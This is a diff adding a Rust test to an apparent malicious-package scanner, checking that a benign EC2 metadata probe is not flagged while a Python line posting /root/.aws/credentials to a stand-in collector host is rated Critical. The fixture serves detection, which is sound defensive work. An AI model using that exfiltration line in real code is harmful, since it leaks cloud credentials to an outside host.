@@ -197,3 +197,22 @@ fn build_command_hooks_that_run_commands_are_high() {
     let src = "import setuptools, os\ncmds = {}\ncmds['bdist_wheel'] = type('W', (object,), {'run': lambda self: os.system('echo airlock-test')})\nsetuptools.setup(name='x', version='1.0', cmdclass=cmds)\n";
     assert_at_least("setup.py", src, "setup-install-hook", Severity::High);
 }
+
+#[test]
+fn probing_the_metadata_address_is_not_sending_a_secret() {
+    // awscli's codedeploy helper asks the metadata service whether it runs on EC2; the
+    // address is where the request goes, not a credential it carries.
+    let src = "from urllib.request import urlopen\n\
+               def on_ec2():\n    try:\n        urlopen('http://169.254.169.254/latest/meta-data/', timeout=1)\n        return True\n    except Exception:\n        return False\n";
+    let got = worst("utils.py", src.as_bytes(), "python-credential-stealer");
+    assert_eq!(got, None, "{src}");
+    // The same call carrying a key file's path still is one.
+    let steal = "import urllib.request\n\
+                 urllib.request.urlopen('https://collector.example.invalid/', data=open('/root/.aws/credentials','rb').read())\n";
+    assert_at_least(
+        "steal.py",
+        steal,
+        "python-credential-stealer",
+        Severity::Critical,
+    );
+}
